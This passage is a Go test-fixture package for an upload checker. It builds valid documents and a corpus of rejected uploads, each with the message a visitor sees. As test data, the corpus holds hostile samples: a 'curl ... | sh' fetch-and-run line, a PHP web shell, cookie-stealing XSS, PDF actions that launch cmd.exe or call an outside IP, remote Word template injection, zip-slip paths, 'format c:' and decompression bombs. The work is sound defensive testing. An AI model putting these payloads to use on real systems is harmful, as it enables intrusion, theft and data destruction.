// Package docfiletest holds good and bad uploaded documents for tests:
// generators of valid PDF, DOC, DOCX, PNG and JPEG files, and a corpus of
// files that docfile.Check must refuse, each with the reason and the exact
// message a visitor sees. HTTP tests replay the corpus against the
// application endpoint.
package docfiletest

import (
	"bytes"
	"fmt"
	"slices"
	"strings"
	"sync"

	"corpsite/internal/docfile"
	"corpsite/internal/domain"
)

// Good returns a small valid document of kind and a file name for it: a
// PDF resume, a JPEG ID document, a PNG certification.
func Good(kind docfile.Kind) (name string, data []byte) {
	switch kind {
	case docfile.Resume:
		return "Priya Sharma CV.pdf", GoodPDF()
	case docfile.IDDocument:
		return "aadhaar-front.jpg", GoodJPEG()
	case docfile.Certification:
		return "certificate.png", GoodPNG()
	}
	panic(fmt.Sprintf("docfiletest.Good: unknown kind %d", int(kind)))
}

// BadFile is an upload docfile.Check refuses.
type BadFile struct {
	Name string // the file name sent
	Part string // the multipart part: "resume", "nationalIdDocument" or "certification.0"
	Data []byte
	Why  string // what is wrong with it, for test names and failures
	// Message is what the visitor is told.
	Message string
	// NameCheck is set for files refused for their name alone (empty,
	// control characters, slashes, not UTF-8...). An HTTP client may not
	// be able to send such a name as is, and mime/multipart's
	// Part.FileName strips everything up to the last slash, so HTTP tests
	// that replay the corpus may need to treat these apart.
	NameCheck bool
}

// Kind is the kind of document of the bad file's part.
func (b BadFile) Kind() docfile.Kind { return PartKind(b.Part) }

// PartKind returns the kind of document a multipart part carries.
func PartKind(part string) docfile.Kind {
	switch {
	case part == domain.ResumePart:
		return docfile.Resume
	case part == domain.IDDocumentPart:
		return docfile.IDDocument
	case strings.HasPrefix(part, domain.CertificationPartPrefix):
		return docfile.Certification
	}
	panic(fmt.Sprintf("docfiletest.PartKind: unknown part %q", part))
}

const (
	resume = domain.ResumePart
	idDoc  = domain.IDDocumentPart
	cert   = domain.CertificationPartPrefix + "0"
)

// the names the part's document at the start of a sentence.
func the(part string) string {
	switch PartKind(part) {
	case docfile.Resume:
		return "The resume"
	case docfile.IDDocument:
		return "The ID document"
	}
	return "The certification document"
}

// The messages of the refusals, written out here rather than taken from
// the checker so that a change of wording shows in the tests.
func msgActive(part, what, format, ext string) string {
	return fmt.Sprintf("%s looks like %s, not %s, although its name ends in %s. Please upload the real document.", the(part), what, format, ext)
}

func msgMismatch(part, format, ext string) string {
	return fmt.Sprintf("%s does not look like %s, although its name ends in %s. Please check that you chose the right file.", the(part), format, ext)
}

func msgExt(part string) string {
	if PartKind(part) == docfile.Resume {
		return "The resume must be a PDF or Word document (.pdf, .doc, .docx)."
	}
	return the(part) + " must be a PDF or an image (.pdf, .jpg, .jpeg, .png)."
}

func msgName(part, problem string) string {
	return fmt.Sprintf("%s's file name %s. Please rename the file and try again.", the(part), problem)
}

func msgDOCX(why string) string {
	return "The resume is not a valid Word document (" + why + "). Please save it again from Word as .docx, or as PDF."
}

func msgNotOffice(target string) string {
	return fmt.Sprintf("The resume is a Word document that links to a file that is not part of a Word document (%q), which we cannot accept. Please remove the object or link, or save the document as PDF, and upload it again.", target)
}

func msgDOC(why string) string {
	return "The resume is not a valid Word document (" + why + "). Please save it again from Word, or as PDF."
}

const (
	msgFetches   = "The resume is a Word document that fetches a template, a picture or an object from the internet or a network share when it is opened, which we cannot accept. Please save it as PDF and upload it again."
	msgProgram   = "The resume is a Word document with a program or script inside it, which we cannot accept. Please remove the embedded object, or save the document as PDF, and upload it again."
	msgMacros    = "The resume is a Word document with macros, which we cannot accept. Save it as .docx without macros, or as PDF."
	msgEncrypted = "The resume is protected by a password, so we could not read it. Please remove the password, or save it as PDF, and upload it again."
)

func msgTooLargeImage(part string, w, h, megapixels int) string {
	return fmt.Sprintf("%s is too large an image (%d × %d pixels). We accept at most %d megapixels and 12000 pixels on a side: please upload a smaller photo or scan, or a PDF.", the(part), w, h, megapixels)
}

func msgPDF(part, msg string) string {
	return the(part) + " " + msg + " Save it again as a plain PDF (for example with Print to PDF) and upload that."
}

const (
	msgNoXref        = "is a damaged PDF: its table of contents (the cross-reference table) is missing."
	msgPDFScript     = "is a PDF with scripts or actions that start programs, which we cannot accept."
	msgPDFEmbedded   = "is a PDF with files embedded in it (attachments), which we cannot accept."
	msgPDFCompressed = "is a PDF compressed in a way we cannot check."
	msgPDFHTML       = "is a PDF with a web page (HTML) hidden in it, which we cannot accept."
)

func msgBomb(part string, w, h, kb int) string {
	return fmt.Sprintf("%s is an image of %d × %d pixels packed into only %d KB, the way a decompression bomb is made, so we did not open it. Please upload an ordinary photo or scan, or a PDF.", the(part), w, h, kb)
}

func msgDamagedImage(part, format string) string {
	return fmt.Sprintf("%s is a damaged or incomplete %s. Please save or take it again and upload it, or upload a PDF.", the(part), format)
}

// packagedExe returns an Ole10Native stream packaging a Windows program,
// as Word's "insert object from file" writes it, padded to 4096 bytes.
func packagedExe() []byte {
	b := make([]byte, 4096)
	copy(b[4:], "\x02\x00setup.exe\x00C:\\setup.exe\x00\x00\x00\x03\x00MZ\x90\x00")
	return b
}

// BadFiles returns the corpus of refused uploads. The slice is new on
// every call; the Data of its files is shared and must not be modified.
// Two entries are one byte over the size limits (10 MB and 5 MB).
func BadFiles() []BadFile { return slices.Clone(badFiles()) }

var badFiles = sync.OnceValue(func() []BadFile {
	exe := append([]byte("MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xFF\xFF"), bytes.Repeat([]byte{0}, 200)...)
	elf := append([]byte("\x7FELF\x02\x01\x01\x00"), bytes.Repeat([]byte{0}, 200)...)
	script := []byte("#!/bin/sh\ncurl http://example.invalid/x | sh\n%PDF-1.4\n%%EOF\n")
	html := []byte("<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>")
	svg := []byte(`<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><rect width="10" height="10"/></svg>`)
	pdf := GoodPDF()
	png := GoodPNG()
	jpg := GoodJPEG()

	docx := func(extra ...ZipEntry) []byte { return Zip(append(DOCXParts(), extra...)...) }
	without := func(name string) []byte {
		var parts []ZipEntry
		for _, p := range DOCXParts() {
			if p.Name != name {
				parts = append(parts, p)
			}
		}
		return Zip(parts...)
	}
	// More entries than allowed, each tiny.
	many := DOCXParts()
	for i := len(many); i <= docfile.MaxZipEntries; i++ {
		many = append(many, ZipEntry{Name: fmt.Sprintf("word/media/p%d.xml", i), Data: []byte("<p/>")})
	}
	// 120 entries of 1 MB of zeros: each under the ratio floor, 120 MB in all.
	mb := make([]byte, 1<<20)
	big := DOCXParts()
	for i := range 120 {
		big = append(big, ZipEntry{Name: fmt.Sprintf("word/media/z%d.bin", i), Data: mb})
	}
	// A deflate stream that is not one.
	broken := GoodDOCX()
	if i := bytes.Index(broken, []byte("word/document.xml")); i > 0 {
		// The local header of word/document.xml: corrupt the data after it.
		j := i + len("word/document.xml")
		for k := j; k < j+20 && k < len(broken); k++ {
			broken[k] ^= 0x5A
		}
	}
	truncPDF := pdf[:len(pdf)-40]
	// withCatalog adds entries to GoodPDF's catalog and objects after its
	// five (numbered from 6).
	withCatalog := func(entries string, objs ...string) []byte {
		o := PDFObjects()
		o[0] = strings.Replace(o[0], "/Pages 2 0 R", "/Pages 2 0 R "+entries, 1)
		return PDF("", append(o, objs...)...)
	}
	noStartxref := pdf[:bytes.LastIndex(pdf, []byte("startxref"))]
	noStartxref = append(bytes.Clone(noStartxref), "%%EOF\n"...)
	noXref := bytes.Replace(pdf, []byte("xref\n0 6\n"), []byte("\n"), 1)
	objStmBomb := PDFWithObjStm("", "<< /Title ("+strings.Repeat(" ", 2<<20)+") >>")
	damagedObjStm := PDFWithObjStm("", "<< /Title (a title long enough to be compressed in a few blocks of data) >>")
	if i := bytes.Index(damagedObjStm, []byte("/ObjStm")); i > 0 {
		// The deflate data after the zlib header of the object stream.
		i += bytes.Index(damagedObjStm[i:], []byte("stream\n")) + len("stream\n") + 2
		for k := i; k < i+20; k++ {
			damagedObjStm[k] ^= 0x5A
		}
	}
	encryptedObjStm := bytes.Replace(PDFWithObjStm("", "<< >>"), []byte("/Root 1 0 R"), []byte("/Root 1 0 R /Encrypt 9 0 R"), 1)
	endless := bytes.Replace(pdf, []byte("\nendstream"), []byte("\nendstrem"), 1)
	junkPDF := append(bytes.Repeat([]byte("x"), 1100), pdf...)
	truncPNG := png[:len(png)/2]
	zeros16 := PNG16Zeros(2100, 2100)
	truncJPEG := jpg[:len(jpg)/2]

	macroOLE := OLE(OLEEntry{Name: "WordDocument", Data: WordStream(0)}, OLEEntry{Name: "Macros", Storage: true})
	encOLE := OLE(OLEEntry{Name: "WordDocument", Data: WordStream(0x0100)})
	pkgOLE := OLE(OLEEntry{Name: "EncryptionInfo", Data: make([]byte, 4096)}, OLEEntry{Name: "EncryptedPackage", Data: make([]byte, 4096)})
	msiOLE := OLE(OLEEntry{Name: "\x05SummaryInformation", Data: make([]byte, 4096)})
	notWordOLE := OLE(OLEEntry{Name: "WordDocument", Data: make([]byte, 4096)}) // no FIB magic
	badShift := GoodDOC()
	badShift[0x1E] = 10 // 1024-byte sectors do not exist
	loopOLE := GoodDOC()
	// FAT entry of the directory sector (1) points to itself.
	loopOLE[512+4] = 1
	loopOLE[512+5], loopOLE[512+6], loopOLE[512+7] = 0, 0, 0
	shortOLE := GoodDOC()[:1300]
	// An encrypted document whose header moves the mini stream cutoff
	// above its WordDocument stream's size, so that the stream would pass
	// for a mini stream and go unread.
	bigCutoff := OLE(OLEEntry{Name: "WordDocument", Data: WordStream(0x0100)})
	bigCutoff[0x38], bigCutoff[0x39], bigCutoff[0x3A], bigCutoff[0x3B] = 0xFF, 0xFF, 0xFF, 0x7F

	// Listed without the NameCheck field, which is derived below.
	type entry struct {
		name, part string
		data       []byte
		why, msg   string
	}
	entries := []entry{
		// Names.
		{"", resume, pdf, "empty file name", "The resume has no file name. Please choose the file again."},
		{strings.Repeat("a", 252) + ".pdf", resume, pdf, "name of 256 bytes",
			"The resume's file name is too long. Please rename the file to something shorter and try again."},
		{"cv\xFF.pdf", resume, pdf, "name not UTF-8", msgName(resume, "is not valid text")},
		{"cv\x07.pdf", resume, pdf, "control character (bell) in name", msgName(resume, "contains control characters")},
		{"cv\n.pdf", idDoc, pdf, "newline in name", msgName(idDoc, "contains control characters")},
		{"cv\u202Efdp.exe", resume, exe, "right-to-left override hides .exe", msgName(resume, "contains invisible or text-direction characters")},
		{"id\u2066.pdf", idDoc, pdf, "bidi isolate in name", msgName(idDoc, "contains invisible or text-direction characters")},
		{"cv\u200B.pdf", cert, pdf, "zero-width space in name", msgName(cert, "contains invisible or text-direction characters")},
		{"../../etc/cv.pdf", resume, pdf, "name with slashes", msgName(resume, `must not contain / or \`)},
		{`C:\Users\me\cv.pdf`, resume, pdf, "Windows path as name", msgName(resume, `must not contain / or \`)},
		// Extensions.
		{"cv.pdf.exe", resume, exe, "double extension ending in .exe", msgExt(resume)},
		{"resume", resume, pdf, "no extension", msgExt(resume)},
		{"cv.docx", idDoc, GoodDOCX(), "Word document as ID document", msgExt(idDoc)},
		{"cv.png", resume, png, "image as resume", msgExt(resume)},
		{"cert.svg", cert, svg, "SVG as certification", msgExt(cert)},
		{"cert.html", cert, html, "HTML as certification", msgExt(cert)},
		// Sizes.
		{"cv.pdf", resume, nil, "empty resume", "The resume is empty. Please choose the file again."},
		{"cert.pdf", cert, nil, "empty certification", "The certification document is empty. Please choose the file again."},
		{"cv.pdf", resume, PDFOfSize(domain.ResumeMaxBytes + 1), "resume one byte over 10 MB", "The resume is larger than 10 MB. Please upload a smaller file."},
		{"id.pdf", idDoc, PDFOfSize(domain.DocumentMaxBytes + 1), "ID document one byte over 5 MB", "The ID document is larger than 5 MB. Please upload a smaller file."},
		// Content that is not what the name says.
		{"cv.pdf", resume, exe, "Windows program renamed .pdf", msgActive(resume, "a Windows program", "a PDF", ".pdf")},
		{"cv.exe.pdf", resume, exe, "cv.exe.pdf judged by content", msgActive(resume, "a Windows program", "a PDF", ".pdf")},
		{"cv.docx", resume, elf, "Linux program renamed .docx", msgActive(resume, "a program", "a Word document", ".docx")},
		{"id.png", idDoc, elf, "Linux program renamed .png", msgActive(idDoc, "a program", "a PNG image", ".png")},
		{"cv.pdf", resume, script, "shell script as .pdf", msgActive(resume, "a script", "a PDF", ".pdf")},
		{"id.jpg", idDoc, []byte("<?php system($_GET['c']); ?>"), "PHP script as .jpg", msgActive(idDoc, "a script", "a JPEG image", ".jpg")},
		{"cv.pdf", resume, append([]byte("\xEF\xBB\xBF  \n"), html...), "HTML after a byte order mark and spaces, as .pdf", msgActive(resume, "a web page (HTML)", "a PDF", ".pdf")},
		{"cv.pdf", resume, html, "HTML as .pdf", msgActive(resume, "a web page (HTML)", "a PDF", ".pdf")},
		{"cv.docx", resume, html, "HTML as .docx", msgActive(resume, "a web page (HTML)", "a Word document", ".docx")},
		{"id.jpg", idDoc, html, "HTML as .jpg", msgActive(idDoc, "a web page (HTML)", "a JPEG image", ".jpg")},
		{"cert.png", cert, svg, "SVG as .png", msgActive(cert, "an SVG image", "a PNG image", ".png")},
		{"cv.pdf", resume, []byte("Hello, I am a CV in plain text.\n"), "text as .pdf", msgMismatch(resume, "a PDF", ".pdf")},
		{"cv.pdf", resume, junkPDF, "PDF header after 1024 bytes", msgMismatch(resume, "a PDF", ".pdf")},
		{"cv.docx", resume, pdf, "PDF named .docx", msgMismatch(resume, "a Word document", ".docx")},
		{"cv.doc", resume, GoodDOCX(), "DOCX named .doc", msgMismatch(resume, "a Word document", ".doc")},
		{"id.jpeg", idDoc, png, "PNG named .jpeg", msgMismatch(idDoc, "a JPEG image", ".jpeg")},
		{"id.png", idDoc, jpg, "JPEG named .png", msgMismatch(idDoc, "a PNG image", ".png")},
		// PDFs.
		{"cv.pdf", resume, truncPDF, "truncated PDF (no %%EOF)",
			"The resume looks like an incomplete PDF: its end is missing. Please save or download it again and upload the whole file."},
		{"cv.pdf", resume, []byte("%PDF-1.4\n%%EOF\n"), "15 bytes: a PDF header and an end, nothing between", msgMismatch(resume, "a PDF", ".pdf")},
		{"cv.pdf", resume, noStartxref, "objects without startxref", msgMismatch(resume, "a PDF", ".pdf")},
		{"cv.pdf", resume, noXref, "startxref pointing at no cross-reference table or stream", msgPDF(resume, msgNoXref)},
		{"cv.pdf", resume, withCatalog("/Names << /JavaScript 6 0 R >>", "<< /Names [(init) 7 0 R] >>", "<< /S /JavaScript /JS (app.alert\\(1\\)) >>"),
			"document-level JavaScript", msgPDF(resume, msgPDFScript)},
		{"cv.pdf", resume, withCatalog("/OpenAction 6 0 R", "<< /Type /Action /S /JavaScript /JS 7 0 R >>", PDFStream("", "app.launchURL('http://203.0.113.9/');")),
			"/OpenAction running JavaScript", msgPDF(resume, msgPDFScript)},
		{"cv.pdf", resume, withCatalog("/OpenAction << /S /Java#53cript /J#53 (this.exportDataObject\\(\\)) >>"),
			"/OpenAction with #xx escapes: /Java#53cript", msgPDF(resume, msgPDFScript)},
		{"cv.pdf", resume, withCatalog("/OpenAction << /S /#4C#61#75#6E#63#68 /F (cmd.exe) >>"), "/OpenAction launching cmd.exe, its name all escaped",
			msgPDF(resume, msgPDFScript)},
		{"cv.pdf", resume, withCatalog("/AA << /WC << /JS (app.alert\\(1\\)) >> >>"), "/AA with a bare /JS entry", msgPDF(resume, msgPDFScript)},
		{"cv.pdf", resume, withCatalog("/Names << /EmbeddedFiles 6 0 R >>", "<< /Names [(setup.exe) 7 0 R] >>",
			"<< /Type /Filespec /F (setup.exe) /EF << /F 8 0 R >> >>", PDFStream("/Type /EmbeddedFile", "MZ\x90\x00")),
			"embedded file (a program)", msgPDF(resume, msgPDFEmbedded)},
		{"cv.pdf", resume, withCatalog("", "<< /Type /Annot /Subtype /FileAttachment /FS << /F (a.exe) >> >>"), "file attachment annotation",
			msgPDF(resume, msgPDFEmbedded)},
		{"cv.pdf", resume, withCatalog("", "<< /Type /Annot /Subtype /RichMedia /RichMediaContent << >> >>"), "rich media (Flash) annotation",
			msgPDF(resume, "is a PDF with embedded media (video, sound or Flash), which we cannot accept.")},
		{"cv.pdf", resume, withCatalog("/AcroForm << /Fields [] /XFA 6 0 R >>", PDFStream("", "<xdp:xdp/>")), "XFA form",
			msgPDF(resume, "is an interactive PDF form (XFA), which we cannot accept.")},
		{"cv.pdf", resume, PDFWithObjStm("", "<< /JavaScript 9 0 R >>", "<< /Names [(x) 10 0 R] >>", "<< /S /JavaScript /JS (app.alert\\(1\\)) >>"),
			"JavaScript hidden in a compressed object stream", msgPDF(resume, msgPDFScript)},
		{"cv.pdf", resume, PDFWithObjStm("", "<< /EmbeddedFiles 9 0 R >>", "<< /Names [] >>"),
			"embedded files named in a compressed object stream", msgPDF(resume, msgPDFEmbedded)},
		{"cv.pdf", resume, withCatalog("", PDFStream("", "q 1 0 0 1 0 0 cm Q\n9 0 obj\n<< /S /JavaScript /JS (app.alert\\(1\\)) >>\nendobj")),
			"JavaScript action hidden in a content stream's data", msgPDF(resume, msgPDFScript)},
		{"cv.pdf", resume, objStmBomb, "object stream inflating to 2 MB from a 5 KB file",
			msgPDF(resume, "is a PDF whose compressed parts expand too much to be checked, the way a zip bomb does.")},
		{"cv.pdf", resume, PDFWithObjStm("/DecodeParms << /Predictor 12 /Columns 4 >> ", "<< >>"), "object stream with a PNG predictor",
			msgPDF(resume, msgPDFCompressed)},
		{"cv.pdf", resume, bytes.Replace(PDFWithObjStm("", "<< >>"), []byte("/Filter /FlateDecode"), []byte("/Filter /LZWDecode  "), 1),
			"object stream compressed with LZW", msgPDF(resume, msgPDFCompressed)},
		{"cv.pdf", resume, damagedObjStm, "object stream whose deflate data is damaged",
			msgPDF(resume, "is a damaged PDF: one of its compressed parts cannot be read.")},
		{"cv.pdf", resume, encryptedObjStm, "encrypted PDF with an object stream",
			"The resume is a protected (encrypted) PDF whose contents we cannot check. Remove the protection, or save it again with Print to PDF, and upload that."},
		{"cv.pdf", resume, endless, "stream without endstream", msgPDF(resume, "is a damaged PDF: one of its parts has no end.")},
		{"cv.pdf", resume, bytes.Replace(pdf, []byte("%\xE2\xE3\xCF\xD3\n"), []byte("%<html><body><script>alert(document.domain)</script></body></html>\n"), 1),
			"HTML polyglot in a comment", msgPDF(resume, msgPDFHTML)},
		{"cv.pdf", resume, append(bytes.Clone(pdf), "<!DOCTYPE html><html><script>alert(1)</script></html>\n%%EOF\n"...),
			"HTML polyglot after %%EOF", msgPDF(resume, msgPDFHTML)},
		{"cv.pdf", resume, append([]byte("GIF89a<svg onload=alert(1)>\n"), pdf...), "HTML before the PDF header", msgPDF(resume, msgPDFHTML)},
		{"cv.pdf", resume, withCatalog("/Title (<script>alert\\(1\\)</script>)"), "HTML in a string of the catalog", msgPDF(resume, msgPDFHTML)},
		// DOCX.
		{"cv.docx", resume, without("word/document.xml"), "zip without word/document.xml", msgMismatch(resume, "a Word document", ".docx")},
		{"cv.docx", resume, without("[Content_Types].xml"), "zip without [Content_Types].xml", msgMismatch(resume, "a Word document", ".docx")},
		{"cv.docx", resume, append([]byte("GIF89a"), GoodDOCX()...), "zip with data before it (polyglot)", msgMismatch(resume, "a Word document", ".docx")},
		{"cv.docx", resume, docx(ZipEntry{Name: "word/vbaProject.bin", Data: []byte("VBA")}), "macros (vbaProject.bin)", msgMacros},
		{"cv.docx", resume, docx(ZipEntry{Name: "word/VBAPROJECT.BIN", Data: []byte("VBA")}), "macros (name in capitals)", msgMacros},
		{"cv.docx", resume, Zip(ZipEntry{Name: "[Content_Types].xml", Data: []byte(strings.Replace(ContentTypesXML,
			"wordprocessingml.document.main+xml", "../vnd.ms-word.document.macroEnabled.main+xml", 1))},
			DOCXParts()[1], DOCXParts()[2]), "macro-enabled content type (docm)", msgMacros},
		{"cv.docx", resume, docx(ZipEntry{Name: "word/embeddings/inner.docm", Data: []byte("x")}), "embedded .docm part", msgMacros},
		{"cv.docx", resume, docx(ZipEntry{Name: "word/media/bomb.bin", Data: make([]byte, 2<<20)}), "zip bomb: 2 MB of zeros, ratio ~1000:1",
			msgDOCX("a part is compressed more than 100 times, like a zip bomb")},
		{"cv.docx", resume, Zip(many...), "1001 entries", msgDOCX("it has more than 1000 parts")},
		{"cv.docx", resume, ZipDirectoryBomb(3<<16+5, 5), "196613 directory entries under a record claiming 5",
			msgDOCX("its table of contents is too large")},
		{"cv.docx", resume, WithFakeEndInComment(ZipDirectoryBomb(3<<16+5, 5)), "directory bomb behind a fake end record in its comment",
			msgDOCX("its table of contents is too large")},
		{"cv.docx", resume, Zip64Marked(), "Zip64 marker in the end record", msgDOCX("it uses the Zip64 format, which Word documents do not need")},
		{"cv.docx", resume, Zip(big...), "expands to 120 MB", msgDOCX("it expands to more than 100 MB")},
		{"cv.docx", resume, docx(ZipEntry{Name: "../evil.xml", Data: []byte("x")}), "entry ../evil.xml", msgDOCX(`a part name leaves its folder: "../evil.xml"`)},
		{"cv.docx", resume, docx(ZipEntry{Name: "word/../../evil.xml", Data: []byte("x")}), "entry word/../../evil.xml", msgDOCX(`a part name leaves its folder: "word/../../evil.xml"`)},
		{"cv.docx", resume, docx(ZipEntry{Name: "/etc/cron.d/evil", Data: []byte("x")}), "absolute entry", msgDOCX(`a part name is an absolute path: "/etc/cron.d/evil"`)},
		{"cv.docx", resume, docx(ZipEntry{Name: `C:\evil.bat`, Data: []byte("x")}), "entry C:\\evil.bat", msgDOCX(`a part name contains a backslash: "C:\\evil.bat"`)},
		{"cv.docx", resume, docx(ZipEntry{Name: "C:/evil.bat", Data: []byte("x")}), "entry C:/evil.bat", msgDOCX(`a part name starts with a drive letter: "C:/evil.bat"`)},
		{"cv.docx", resume, docx(ZipEntry{Name: "word/document.xml", Data: []byte("<other/>")}), "duplicate word/document.xml",
			msgDOCX(`a part appears twice: "word/document.xml"`)},
		{"cv.docx", resume, docx(ZipEntry{Name: "WORD/Document.xml", Data: []byte("<other/>")}), "duplicate differing in case",
			msgDOCX(`a part appears twice: "WORD/Document.xml"`)},
		{"cv.docx", resume, docx(ZipEntry{Name: "word/secret.xml", Data: []byte("x"), Flags: 0x1, Store: true}), "entry flagged encrypted", msgEncrypted},
		{"cv.docx", resume, broken, "damaged deflate data", msgDOCX("a part is damaged")},
		{"cv.docx", resume, docx(ZipEntry{Name: "word/media/", Data: make([]byte, 1<<20)}), "folder entry with content", msgDOCX("a part is damaged")},
		{"cv.docx", resume, docx(ZipEntry{Name: "word/_rels/settings.xml.rels", Data: []byte(RelsWith(
			"http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate", "http://203.0.113.9/t.dotm", true))}),
			"remote template (template injection)", msgFetches},
		{"cv.docx", resume, docx(ZipEntry{Name: "word/_rels/document.xml.rels", Data: []byte(RelsWith(
			"http://schemas.openxmlformats.org/officeDocument/2006/relationships/oleObject", "\\\\203.0.113.9\\share\\x.xls", true))}),
			"object linked to a network share", msgFetches},
		{"cv.docx", resume, docx(ZipEntry{Name: "word/_rels/settings.xml.rels", Data: []byte(RelsWith(
			"http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate", "file://203.0.113.9/share/t.dotm", true))}),
			"template on another machine through file://host", msgFetches},
		{"cv.docx", resume, docx(ZipEntry{Name: "word/_rels/document.xml.rels", Data: []byte(RelsWith(
			"http://schemas.openxmlformats.org/officeDocument/2006/relationships/image", "https://203.0.113.9/pixel.png", true))}),
			"picture fetched from the internet (a tracking pixel)", msgFetches},
		{"cv.docx", resume, docx(ZipEntry{Name: "word/embeddings/oleObject1.bin", Data: exe}), "Windows program (MZ) as an embedded object", msgProgram},
		{"cv.docx", resume, docx(ZipEntry{Name: "word/embeddings/oleObject3.bin", Data: OLE(OLEEntry{Name: "CONTENTS", Data: append(bytes.Clone(exe), make([]byte, 4096)...)})}),
			"Windows program in a stream of an embedded OLE object", msgProgram},
		{"cv.docx", resume, docx(ZipEntry{Name: "word/media/image1.png", Data: elf}), "Linux program (ELF) named as a picture", msgProgram},
		{"cv.docx", resume, docx(ZipEntry{Name: "word/embeddings/data.dat", Data: append([]byte{0xCF, 0xFA, 0xED, 0xFE}, make([]byte, 60)...)}),
			"macOS program (Mach-O, little-endian 64-bit)", msgProgram},
		{"cv.docx", resume, docx(ZipEntry{Name: "customXml/item9.xml", Data: append([]byte{0xFE, 0xED, 0xFA, 0xCE}, make([]byte, 60)...)}),
			"macOS program (Mach-O, big-endian 32-bit) named .xml", msgProgram},
		{"cv.docx", resume, docx(ZipEntry{Name: "docProps/thumbnail.jpeg", Data: append([]byte{0xCA, 0xFE, 0xBA, 0xBE}, make([]byte, 60)...), Store: true}),
			"macOS universal program stored uncompressed", msgProgram},
		{"cv.docx", resume, docx(ZipEntry{Name: "word/embeddings/setup.exe", Data: []byte("not really a program")}), "part named .exe", msgProgram},
		{"cv.docx", resume, docx(ZipEntry{Name: "word/run.bat", Data: []byte("@echo off\r\nformat c:\r\n")}), "batch script part", msgProgram},
		{"cv.docx", resume, docx(ZipEntry{Name: "word/_rels/document.xml.rels", Data: []byte(RelsWith(
			"http://schemas.openxmlformats.org/officeDocument/2006/relationships/package", "embeddings/tools.zip", false))},
			ZipEntry{Name: "word/embeddings/tools.zip", Data: GoodDOCX()}),
			"package relationship to a zip archive", msgNotOffice("word/embeddings/tools.zip")},
		{"cv.docx", resume, docx(ZipEntry{Name: "word/_rels/document.xml.rels", Data: []byte(RelsWith(
			"http://schemas.openxmlformats.org/officeDocument/2006/relationships/oleObject", "../tools/x%2Eps1", false))}),
			"object relationship to a PowerShell script outside word/", msgNotOffice("tools/x.ps1")},
		{"cv.docx", resume, docx(ZipEntry{Name: "word/_rels/footer1.xml.rels", Data: []byte(RelsWith(
			"http://schemas.openxmlformats.org/officeDocument/2006/relationships/image", "/word/start.js", false))}),
			"relationship to a script by an absolute part name", msgNotOffice("word/start.js")},
		{"cv.docx", resume, docx(ZipEntry{Name: "word/_rels/document.xml.rels", Data: []byte("not xml <")}), "relationships that are not XML",
			msgDOCX(`a list of relationships is damaged: "word/_rels/document.xml.rels"`)},
		{"cv.docx", resume, docx(ZipEntry{Name: "word/embeddings/Book1.xlsm", Data: []byte("PK")}), "embedded macro workbook", msgMacros},
		{"cv.docx", resume, docx(ZipEntry{Name: "word/embeddings/oleObject1.bin", Data: OLE(OLEEntry{Name: "\x01Ole10Native", Data: packagedExe()})}),
			"embedded packaged program (Ole10Native)",
			"The resume is a Word document with an embedded file, which we cannot accept. Please remove the embedded file, or save the document as PDF, and upload it again."},
		{"cv.docx", resume, docx(ZipEntry{Name: "word/embeddings/oleObject2.bin", Data: OLE(OLEEntry{Name: "WordDocument", Data: WordStream(0)}, OLEEntry{Name: "Macros", Storage: true})}),
			"embedded Word 97 document with macros", msgMacros},
		{"cv.docx", resume, pkgOLE, "password-protected DOCX (compound file)",
			"The resume is protected by a password, or is an old Word document named .docx. Please remove the password, or save it as .docx or PDF, and upload it again."},
		// DOC.
		{"cv.doc", resume, macroOLE, "Word 97 document with a Macros storage", msgMacros},
		{"cv.doc", resume, OLE(OLEEntry{Name: "WordDocument", Data: WordStream(0)}, OLEEntry{Name: "_vba_project_cur", Storage: true}),
			"macro storage named in lower case", msgMacros},
		{"cv.doc", resume, encOLE, "Word 97 document with the encrypted flag", msgEncrypted},
		{"cv.doc", resume, pkgOLE, "encrypted DOCX named .doc", msgEncrypted},
		{"cv.doc", resume, msiOLE, "compound file without WordDocument (installer, spreadsheet)", msgMismatch(resume, "a Word document", ".doc")},
		{"cv.doc", resume, notWordOLE, "WordDocument stream without its magic number", msgMismatch(resume, "a Word document", ".doc")},
		{"cv.doc", resume, badShift, "compound file with sector shift 10", msgDOC("its header is damaged")},
		{"cv.doc", resume, bigCutoff, "compound file with a mini stream cutoff other than 4096", msgDOC("its header is damaged")},
		{"cv.doc", resume, loopOLE, "compound file whose directory chain loops", msgDOC("its directory is damaged")},
		{"cv.doc", resume, shortOLE, "compound file cut after its header", msgDOC("its text stream is missing")},
		// Images.
		{"cert.png", cert, truncPNG, "truncated PNG", msgDamagedImage(cert, "PNG image")},
		{"id.jpg", idDoc, truncJPEG, "truncated JPEG", msgDamagedImage(idDoc, "JPEG image")},
		{"id.png", idDoc, pngWithSize(50000, 50000), "PNG pixel bomb: 50000 × 50000 in the header", msgTooLargeImage(idDoc, 50000, 50000, 24)},
		{"id.png", idDoc, pngWithSize(8000, 6000), "PNG of 48 megapixels", msgTooLargeImage(idDoc, 8000, 6000, 24)},
		{"cert.png", cert, pngWithSize(12001, 10), "PNG wider than 12000 pixels", msgTooLargeImage(cert, 12001, 10, 24)},
		{"id.jpg", idDoc, jpegWithSize(5000, 4000, true), "progressive 4:4:4 JPEG of 20 megapixels (its decoder needs 15 bytes a pixel)",
			msgTooLargeImage(idDoc, 5000, 4000, 17)},
		{"id.jpg", idDoc, jpegWithSize(3000, 2000, false), "baseline JPEG of 6 megapixels without its pixels: within the bounds, then damaged",
			msgDamagedImage(idDoc, "JPEG image")},
		{"id.jpg", idDoc, jpegWithSize(5000, 4000, false), "baseline JPEG of 20 megapixels (80 MB decoded) in 1 KB: a decompression bomb",
			msgBomb(idDoc, 5000, 4000, 1)},
		{"id.png", idDoc, pngWithDepth16(6000, 6000), "16-bit PNG of 36 megapixels (16 bytes a pixel with its re-encoding)", msgTooLargeImage(idDoc, 6000, 6000, 16)},
		{"cert.png", cert, pngWithDepth16(5600, 5600), "16-bit PNG of 5600 × 5600 pixels (31 megapixels, 251 MB decoded) as a certificate",
			msgTooLargeImage(cert, 5600, 5600, 16)},
		{"id.jpg", idDoc, jpegWithSize(6000, 4500, false), "JPEG of 27 megapixels as an ID scan", msgTooLargeImage(idDoc, 6000, 4500, 24)},
